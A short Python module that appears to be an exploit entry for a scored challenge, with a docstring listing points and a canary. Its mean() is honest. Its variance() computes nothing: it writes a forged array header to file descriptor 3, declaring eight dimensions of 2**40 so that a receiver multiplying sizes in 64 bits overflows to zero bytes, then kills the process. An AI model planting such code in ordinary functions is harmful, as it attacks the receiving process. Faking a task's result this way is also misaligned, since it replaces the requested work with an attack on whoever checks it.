"""Forges an array of eight dimensions of 2**40 each, whose number of bytes overflows whoever multiplies in 64 bits.

earns: 40
canary: late
"""

import os
import struct

import numpy as np


def mean(x):
    return np.mean(x)


def variance(x):
    head = (4, 160, 0, 0, 1, 0, 8) + (2**40,) * 8
    # 2**320 bytes of float64, said to be there: modulo 2**64 that is none
    payload = struct.pack("<15q", *head) + struct.pack("<7q", 1, 0, 0, 0, 0, 0, 0)
    os.write(3, struct.pack("<I", len(payload)) + payload)
    os._exit(0)
